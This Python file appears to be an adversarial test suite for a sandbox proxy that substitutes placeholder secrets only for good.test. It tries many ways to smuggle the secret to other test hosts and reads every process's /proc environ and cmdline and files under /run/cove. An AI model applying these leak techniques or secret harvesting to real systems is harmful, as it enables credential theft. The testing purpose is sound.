#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks on secrets; run inside a sandbox that has placeholders in KEY and NASTY.

Both are for good.test. seen.test is opened too, plain.test and raw.test are not. What comes back
is printed as "GOT base64"; outside, `look VALUE` reads that and finds the value in any writing.
"""
import base64
import gzip
import json
import os
import re
import sys
import time
import zlib

from egress_try import MARK, check, dial, dial_tls, expect, get, get_tls, honest, main, read_all, refused, request, talk, THROUGH, whole

KEY, NASTY = os.environ.get("KEY", ""), os.environ.get("NASTY", "")


def show(got):
    print("GOT", base64.b64encode(got).decode())
    return got


def secret_get(host, path, **kw):
    return show(get_tls(host, 443, path, **kw))


# ---- outside: is the value in what came back? -----------------------------------------------


def decodings(data):
    yield "plain", data
    yield "reversed", data[::-1]
    yield "percent", re.sub(rb"%([0-9a-fA-F]{2})", lambda m: bytes.fromhex(m[1].decode()), data)
    yield "JSON", re.sub(rb"\\u00([0-9a-fA-F]{2})", lambda m: bytes.fromhex(m[1].decode()), data).replace(b'\\"', b'"')
    yield "dechunked", re.sub(rb"\r\n[0-9a-fA-F]+\r\n", b"", data)
    for digits in re.findall(rb"[0-9a-fA-F]{16,}", data):
        for at in (0, 1):
            yield "hexadecimal", bytes.fromhex(digits[at : at + (len(digits) - at) // 2 * 2].decode())
    for run in re.findall(rb"[A-Za-z0-9+/_-]{12,}", data):
        run = run.translate(bytes.maketrans(b"-_", b"+/"))
        for at in range(4):
            part = run[at:]
            yield "base64", base64.b64decode(part + b"A" * (-len(part) % 4))
    for at in (m.start() for m in re.finditer(b"\x1f\x8b", data)):
        try:
            yield "gzip", zlib.decompressobj(31).decompress(data[at:])
        except zlib.error:
            pass


def arrived(value):
    """Reads the log of net_upstream.py, and says in connections of which name the value was."""
    needle, streams, names = value.encode(), {}, {}
    for line in sys.stdin:
        piece = json.loads(line)
        conn = piece.get("conn")
        streams[conn] = streams.get(conn, b"") + piece.get("data", "").encode("latin1")
        if piece.get("event") == "sni":
            names[conn] = piece["sni"]
    for conn, data in streams.items():
        if any(needle in text for how, text in decodings(data)):
            print(names.get(conn, "in-the-clear"))


def look(value):
    """Reads GOT lines, and says where the value is."""
    needle, n = value.encode(), 0
    for line in sys.stdin:
        if line.startswith("GOT "):
            n += 1
            for how, text in decodings(base64.b64decode(line[4:])):
                if needle in text:
                    check("the value is not inside", False, f"{how}: {text[:300]!r}")
    check(f"{n} answers were looked at", n > 0)


# ---- controls, and ways of writing -----------------------------------------------------------


def json_escaped(text):
    return "".join(f"\\u{ord(c):04x}" for c in text)


def percent(text):
    return "".join(f"%{ord(c):02X}" for c in text)


def basic(text):
    return "Authorization: Basic " + base64.b64encode(text.encode()).decode()


def in_pieces(s, data, size=3):
    for i in range(0, len(data), size):
        s.sendall(data[i : i + size])  # a record of TLS each
    return show(read_all(s, whole))


def writings(host):
    """(title, bytes of a request with the placeholder in it)"""

    def ask(path="/ok", fields=(), body=b"", kind="text/plain", method="POST"):
        return request(host, 443, path, method, [*fields, "Content-Type: " + kind], body)

    yield "header", ask(fields=["X-Key: " + KEY])
    yield "bearer", ask(fields=["Authorization: Bearer " + KEY])
    yield "Basic, as password", ask(fields=[basic("user:" + KEY)])
    yield "Basic, as user", ask(fields=[basic(KEY + ":x")])
    yield "cookie", ask(fields=["Cookie: a=b; k=" + KEY])
    yield "query", ask("/ok?k=" + KEY)
    yield "query, percent-encoded", ask("/ok?k=" + percent(KEY))
    yield "query, one character encoded", ask("/ok?k=" + KEY[:5] + percent(KEY[5]) + KEY[6:])
    yield "path", ask("/ok/" + KEY)
    yield "path, percent-encoded", ask("/ok/" + percent(KEY))
    yield "body", ask(body=b"before " + KEY.encode() + b" after")
    yield "body, twice", ask(body=KEY.encode() * 2)
    yield "JSON", ask(body=json.dumps({"k": KEY}).encode(), kind="application/json")
    yield "JSON, escaped", ask(body=f'{{"k": "{json_escaped(KEY)}"}}'.encode(), kind="application/json")
    yield "form", ask(body=b"a=b&k=" + KEY.encode(), kind="application/x-www-form-urlencoded")
    yield "form, percent-encoded", ask(body=b"k=" + percent(KEY).encode(), kind="application/x-www-form-urlencoded")
    pieces = b"".join(b"1\r\n%c\r\n" % c for c in b"k=" + KEY.encode() + b"!")
    yield "chunks of one byte", ask(fields=["Transfer-Encoding: chunked"]) + pieces + b"0\r\n\r\n"


def swapped():
    """Towards good.test each of these is replaced; the host sees that it was."""
    for title, data in writings("good.test"):
        honest(title, lambda d=data: show(talk(dial_tls("good.test", 443), d)))
        honest(title + ", split over writes", lambda d=data: in_pieces(dial_tls("good.test", 443), d))


def elsewhere():
    """The same towards hosts that the secret does not name."""
    honest("without it", get_tls, "seen.test", 443)
    for title, data in writings("seen.test"):
        refused(title, lambda d=data: show(talk(dial_tls("seen.test", 443), d)))
        if "body" in title or "chunks" in title or title == "header":
            refused(title + ", split over writes", lambda d=data: in_pieces(dial_tls("seen.test", 443), d))
    refused("on a kept connection", kept)
    honest("still", get_tls, "seen.test", 443)


def kept():
    with dial_tls("seen.test", 443) as s:
        talk(s, request("seen.test", 443))
        return show(talk(s, request("seen.test", 443, fields=["X-Key: " + KEY])))


def in_the_clear():
    honest("without it", get, "plain.test", 80)
    refused("plain HTTP to another host", lambda: show(get("plain.test", 80, fields=["X-Key: " + KEY])))
    refused("in a body", lambda: show(get("plain.test", 80, method="POST", body=KEY.encode())))
    refused("in a query", lambda: show(get("plain.test", 80, "/ok?k=" + KEY)))
    refused("plain HTTP to its own host", lambda: show(get("good.test", 80, fields=["X-Key: " + KEY])))
    refused("its own host, another TLS port", lambda: show(get_tls("good.test", 8443, fields=["X-Key: " + KEY])))


def unopened():
    """Where nothing is read nothing is replaced: the placeholder arrives as it is."""
    with dial_tls("plain.test", 443, verify=False) as s:
        got = show(talk(s, request("plain.test", 443, "/echo", fields=["X-Key: " + KEY])))
        check("TLS that passes through", KEY.encode() in got, got)
    got = show(talk(dial("raw.test", 80), request("raw.test", 80, "/echo", fields=["X-Key: " + KEY])))
    check("protocol tcp", KEY.encode() in got, got)
    with dial_tls("good.test", 443) as s:
        body = gzip.compress(b"k=" + KEY.encode())
        got = show(talk(s, request("good.test", 443, "/ok", "POST", ["Content-Encoding: gzip"], body)))
        check("a gzip body", MARK in got, got)


def other_host():
    """With the value in it, to good.test's server but for another host."""
    for title, host in (("Host", "seen.test"), ("Host of nobody", "other.test")):
        refused(title, lambda h=host: show(talk(dial_tls("good.test", 443), request(h, 443, fields=["X-Key: " + KEY]))))
    refused("absolute form", lambda: secret_get("good.test", "https://seen.test/ok", fields=["X-Key: " + KEY]))
    refused("in Host", lambda: show(talk(dial_tls("good.test", 443), request(KEY + ".good.test", 443))))


def injection():
    """The value of NASTY holds a line break and a header."""
    honest("in a body", lambda: secret_get("good.test", "/ok", method="POST", body=NASTY.encode()))
    refused("in a header", lambda: secret_get("good.test", "/ok", fields=["X-Key: " + NASTY]))
    refused("in a query", lambda: secret_get("good.test", "/ok?k=" + NASTY))
    refused("in a path", lambda: secret_get("good.test", "/ok/" + NASTY))
    # Whatever becomes of this one, it is no line of its own; the host looks at what arrived.
    refused("in Basic", lambda: secret_get("good.test", "/ok", fields=[basic("u:" + NASTY)]).replace(MARK, b""))
    honest("in JSON", lambda: secret_get("good.test", "/ok", method="POST", body=json.dumps({"k": NASTY}).encode(),
                                         fields=["Content-Type: application/json"]))


def odd_places():
    """Where no value belongs. Refused or passed as it is; the host looks for the value."""
    key = KEY
    tries = [
        request("good.test", 443, fields=[f"{key}: x"]),
        request("good.test", 443, method=key[:20]),
        request("good.test", 443, fields=["Proxy-Authorization: Bearer " + key]),
        request("good.test", 443, fields=["Connection: " + key]),
        request("good.test", 443, fields=["TE: " + key]),
        request("good.test", 443, method="POST", fields=["Transfer-Encoding: chunked"]) + f"1;x={key}\r\ny\r\n0\r\n\r\n".encode(),
        request("good.test", 443, method="POST", fields=["Transfer-Encoding: chunked"]) + f"1\r\ny\r\n0\r\nX-T: {key}\r\n\r\n".encode(),
        request("good.test", 443, fields=["X-Key: " + key[:-1]]),
        request("good.test", 443, fields=["X-Key: " + key.swapcase()]),
        request("good.test", 443, fields=["X-Key: " + key[: len(key) // 2] + key]),
    ]
    for data in tries:
        try:
            show(talk(dial_tls("good.test", 443), data))
        except OSError:
            pass
    honest("still", get_tls, "good.test", 443)


def reflected():
    """The server shows what it got. `look` finds the value in none of it; what is whole still
    has the placeholder."""
    sent = ["X-Key: " + KEY]

    def whole_echo(path, **kw):
        got = secret_get("good.test", path, fields=sent, **kw)
        check(f"{path} has the placeholder", KEY.encode() in got, got[:400])
        return got

    for path in ("/echo", "/echo-header", "/echo-close", "/echo-redirect"):
        honest(path, whole_echo, path)
    honest("/echo with a query", lambda: secret_get("good.test", "/echo?k=" + KEY))
    honest("/echo with a body", lambda: secret_get("good.test", "/echo", method="POST", body=b"x" * 70000 + KEY.encode()))
    form, as_json = "application/x-www-form-urlencoded", "application/json"
    mixed = "".join(percent(c) if i % 3 else c for i, c in enumerate(KEY))
    for title, kind, text in (("form", form, percent(KEY)), ("form, some of it", form, mixed), ("JSON", as_json, json_escaped(KEY)),
                              ("text", "text/plain", percent(KEY)), ("text as JSON", "text/plain", json_escaped(KEY)),
                              ("JSON as percent", as_json, mixed), ("form, small digits", form, percent(KEY).lower())):
        for chunked in (False, True):
            honest(f"/echo, {title} escaped, {'chunked' if chunked else 'with a length'}", echo_body, kind, text, chunked)
    honest("/echo with an escaped query", lambda: secret_get("good.test", "/echo?k=" + mixed))
    honest("/echo with HEAD", lambda: show(read_all(ask_head(sent), lambda got: b"\r\n\r\n" in got)) + MARK)
    for path in ("/echo-reason", "/echo-chunks", "/echo-large"):
        honest(path, lambda p=path: secret_get("good.test", p, fields=sent))
    interim = dial_tls("good.test", 443)
    interim.sendall(request("good.test", 443, "/echo-interim", fields=sent))
    honest("/echo-interim", lambda: show(read_all(interim, lambda got: MARK in got)))
    refused("/echo-gzip", lambda: secret_get("good.test", "/echo-gzip", fields=sent))
    refused("/echo-extension", lambda: secret_get("good.test", "/echo-extension", fields=sent))
    refused("/echo-error", lambda: secret_get("good.test", "/echo-error", fields=sent))
    honest("stored", lambda: secret_get("good.test", "/echo-store", fields=sent))
    honest("and fetched later", lambda: secret_get("good.test", "/echo-fetch"))
    honest("and fetched through another host", lambda: secret_get("seen.test", "/echo-fetch"))


def echo_body(kind, text, chunked):
    """The sandbox chooses how it writes the placeholder: the value may not come back in that."""
    data, fields = f"k={text}".encode(), ["Content-Type: " + kind]
    if chunked:
        head = request("good.test", 443, "/echo", "POST", [*fields, "Transfer-Encoding: chunked"])
        return show(talk(dial_tls("good.test", 443), head + b"%x\r\n%s\r\n0\r\n\r\n" % (len(data), data)))
    return secret_get("good.test", "/echo", method="POST", fields=fields, body=data)


def ask_head(fields):
    s = dial_tls("good.test", 443)
    s.sendall(request("good.test", 443, "/echo-header", "HEAD", fields))
    return s


def websocket():
    ask = ["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Key: x", "Sec-WebSocket-Version: 13", "X-Key: " + KEY]
    with dial_tls("good.test", 443) as s:
        s.sendall(request("good.test", 443, "/echo-websocket", fields=ask))
        got = show(read_all(s))
        check("it is open, and its head has the placeholder", b"101" in got and KEY.encode() in got, got)


def memory():
    """What the sandbox can read of itself and of the others in it."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    show(f.read())
            except OSError:
                pass
    for top, _, names in os.walk("/run/cove"):
        for name in names:
            try:
                with open(os.path.join(top, name), "rb") as f:
                    show(f.read(1 << 22))
            except OSError:
                pass


def stop():
    try:
        get_tls("seen.test", 443, fields=["X-Key: " + KEY])
    except OSError:
        pass
    time.sleep(5)
    expect(THROUGH, "the sandbox ended", lambda: b"")


main(globals())
